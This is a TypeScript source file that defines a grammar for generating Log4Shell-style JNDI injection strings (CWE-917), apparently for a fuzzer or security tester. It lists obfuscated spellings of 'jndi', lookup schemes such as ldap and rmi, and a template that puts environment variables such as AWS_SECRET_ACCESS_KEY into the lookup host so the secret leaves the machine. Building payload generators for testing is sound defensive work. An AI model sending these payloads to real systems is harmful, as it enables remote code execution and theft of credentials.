import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** JNDI look-ups, log4shell among them (CWE-917). */
export const jndi: Grammar = {
  ...words,
  start: [
    '${<jndi>:<scheme>://<where>/<ident>}',
    'x${<jndi>:<scheme>://<where>/<ident>}y',
    '${<jndi>:<scheme>://${env:<variable>}.<where>/<letter>}',
    '%24%7B<jndi>:<scheme>://<where>/<letter>%7D',
  ],
  jndi: [
    'jndi',
    '${lower:j}ndi',
    '${lower:j}${upper:n}d${lower:i}',
    '${::-j}${::-n}${::-d}${::-i}',
    'j${::-n}di',
    '${env:<ident>:-j}ndi',
    'jn${date:d}i',
    '${upper:j}ndi',
  ],
  scheme: ['ldap', 'rmi', 'dns', 'ldaps', 'iiop', '${lower:l}dap', 'l${::-d}ap', 'ld${sys:x:-a}p'],
  where: ['<host>', '<host>:<number>', '127.0.0.1#.<host>:1389', '<number>.<host>', '[::1]:1389'],
  variable: ['AWS_SECRET_ACCESS_KEY', 'USER', 'HOSTNAME', 'PATH', 'JAVA_VERSION'],
};
